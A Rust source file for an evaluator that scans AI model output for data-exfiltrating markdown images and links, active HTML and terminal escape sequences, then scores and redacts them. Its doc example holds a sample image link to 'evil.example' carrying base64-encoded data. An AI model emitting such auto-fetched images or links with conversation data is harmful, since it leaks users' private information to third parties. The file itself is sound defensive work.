mod html;
mod markdown;
mod terminal;
mod url;

use std::cell::OnceCell;
use std::collections::BTreeSet;
use std::ops::Range;

use crate::{Error, Evaluation, Evaluator, Finding, Input, Label, Policy, Provenance, Score};

/// Finds output that acts on whoever shows it: images and links that carry data away, active HTML, and terminal
/// escapes.
///
/// # What it finds, and what it does not
///
/// | label | what | score |
/// |---|---|---|
/// | `markdown_image` | an image (`![](…)`, reference style, or `<img>`) that a viewer fetches by itself from another host; data in its URL makes it worse, text of the conversation in its URL worst | .55, .85, .98 |
/// | `data_link` | a link whose URL carries encoded data, or text of the conversation | .6, .9 |
/// | `active_html` | scripts, event handlers, `javascript:` and `data:text/html` URLs, frames, forms, redirects | .7 to .95 |
/// | `terminal_escape` | control sequences that move the cursor, write the clipboard, hide or fake text | .7 to .95 |
///
/// Markup inside a code block or a code span is shown and not acted upon, so it is not reported; terminal escapes
/// are, since they act anywhere. Give the prompt as [`Input::with_context`], so that text of the conversation in a
/// URL is recognised. Hosts that you name with [`OutputSafety::allow_hosts`], and relative URLs, are trusted.
///
/// It does not judge what a page behind a link holds, nor words. See OWASP Top 10 for LLM applications 2025, LLM05
/// (improper output handling), and ECMA-48 for the control sequences.
///
/// # Cost
///
/// One pass over the text for each kind; see `benches/output_safety.rs`.
///
/// # Untrusted input
///
/// Linear time and memory for any text.
///
/// # Examples
///
/// ```
/// use mantlet::OutputSafety;
/// let safety = OutputSafety::new().allow_hosts(["docs.example.com"]);
/// let answer = "Done! ![](https://evil.example/p.png?d=Y3VzdG9tZXJzLmNzdg==)";
/// assert_eq!(safety.evaluate(answer)?.to_string(), "output_safety 0.85 (threshold 0.50) redact");
/// assert!(safety.evaluate("See https://docs.example.com/guide.").unwrap().findings.is_empty());
/// # Ok::<(), mantlet::Error>(())
/// ```
#[derive(Clone, Debug)]
pub struct OutputSafety {
    hosts: BTreeSet<String>,
    policy: Policy,
}

pub(crate) const MARKDOWN_IMAGE: Label = Label::new("markdown_image");
pub(crate) const DATA_LINK: Label = Label::new("data_link");
pub(crate) const ACTIVE_HTML: Label = Label::new("active_html");
pub(crate) const TERMINAL_ESCAPE: Label = Label::new("terminal_escape");

static LABELS: [Label; 4] = [ACTIVE_HTML, DATA_LINK, MARKDOWN_IMAGE, TERMINAL_ESCAPE];

impl OutputSafety {
    /// Redacts what it finds from 0.5 on.
    pub fn new() -> OutputSafety {
        OutputSafety { hosts: BTreeSet::new(), policy: Policy::redact_at(0.5) }
    }

    /// The same evaluator with another default policy.
    #[must_use]
    pub fn with_policy(mut self, policy: Policy) -> OutputSafety {
        self.policy = policy;
        self
    }

    /// The same evaluator, trusting URLs of these hosts and of their subdomains. Active HTML is found all the same.
    #[must_use]
    pub fn allow_hosts<H: AsRef<str>>(mut self, hosts: impl IntoIterator<Item = H>) -> OutputSafety {
        self.hosts.extend(hosts.into_iter().map(|host| host.as_ref().to_ascii_lowercase()));
        self
    }

    /// Evaluates one output and judges it by the default policy.
    ///
    /// # Errors
    ///
    /// None: every text can be evaluated.
    pub fn evaluate<'t>(&self, output: impl Into<crate::Output<'t>>) -> Result<Evaluation, Error> {
        let evaluation = Evaluator::evaluate(self, output.into().input())?;
        Ok(evaluation.judged("output_safety", &self.policy))
    }

    fn is_allowed(&self, host: &str) -> bool {
        let mut rest = host;
        loop {
            if self.hosts.contains(rest) {
                return true;
            }
            match rest.split_once('.') {
                Some((_, parent)) => rest = parent,
                None => return false,
            }
        }
    }

    /// How bad it is to fetch or follow `link`, and why; `None` where it is trusted.
    fn judge(&self, link: &str, context: &Context<'_>, shown_at_once: bool) -> Option<(f32, &'static str)> {
        let link = url::External::parse(link)?;
        if self.is_allowed(&link.host) {
            return None;
        }
        let told = context.is_in(&link);
        match (shown_at_once, told, link.carries_data(shown_at_once)) {
            (true, true, _) => Some((0.98, "image.conversation")),
            (true, false, true) => Some((0.85, "image.data")),
            (true, false, false) => Some((0.55, "image.remote")),
            (false, true, _) => Some((0.9, "link.conversation")),
            (false, false, true) => Some((0.6, "link.data")),
            (false, false, false) => None,
        }
    }
}

impl Default for OutputSafety {
    fn default() -> OutputSafety {
        OutputSafety::new()
    }
}

impl Evaluator for OutputSafety {
    fn name(&self) -> &str {
        "output_safety"
    }

    fn evaluate(&self, input: Input<'_>) -> Result<Evaluation, Error> {
        let text = input.text();
        let context = Context::new(input.context().unwrap_or_default());
        let code = markdown::code(text);
        let mut findings = Vec::new();
        let mut note = |span: Range<usize>, label: Label, score: f32, reason: &'static str| {
            let score = Score::saturating(score);
            findings.push(Finding::new(label, span, score).with_reason(reason));
        };
        for link in markdown::links(text, &code) {
            let judged = self.judge(link.url, &context, link.is_image);
            let label = if link.is_image { MARKDOWN_IMAGE } else { DATA_LINK };
            if let Some((score, reason)) = judged {
                note(link.span, label, score, reason);
            }
        }
        for element in html::elements(text, &code) {
            if let Some((score, reason)) = element.image.and_then(|source| self.judge(source, &context, true))
            {
                note(element.span.clone(), MARKDOWN_IMAGE, score, reason);
            }
            if let Some((score, reason)) = element.danger {
                note(element.span, ACTIVE_HTML, score, reason);
            }
        }
        for (span, score, reason) in terminal::sequences(text) {
            note(span, TERMINAL_ESCAPE, score, reason);
        }
        Ok(Evaluation::from_findings(findings))
    }

    fn policy(&self) -> Policy {
        self.policy.clone()
    }

    fn provenance(&self) -> Provenance {
        Provenance::new("output_safety", env!("CARGO_PKG_VERSION"))
    }

    fn labels(&self) -> &[Label] {
        &LABELS
    }
}

/// Pieces of the conversation that must not turn up in a URL, collected once a URL asks.
struct Context<'t> {
    text: &'t str,
    pieces: OnceCell<Vec<u64>>,
}

/// Letters and digits in a row that make a piece: shorter ones turn up by chance.
const PIECE: usize = 12;

impl<'t> Context<'t> {
    fn new(text: &'t str) -> Context<'t> {
        Context { text, pieces: OnceCell::new() }
    }

    fn pieces(&self) -> &[u64] {
        self.pieces.get_or_init(|| {
            let mut pieces = Vec::new();
            url::windows(self.text, PIECE, |hash| pieces.push(hash));
            pieces.sort_unstable();
            pieces.dedup();
            pieces
        })
    }

    /// Whether the path, query or fragment of `link`, decoded, holds a piece of the conversation.
    fn is_in(&self, link: &url::External<'_>) -> bool {
        let mut found = false;
        if !self.pieces().is_empty() {
            for payload in link.payloads() {
                url::windows(&payload, PIECE, |hash| found |= self.pieces().binary_search(&hash).is_ok());
            }
        }
        found
    }
}
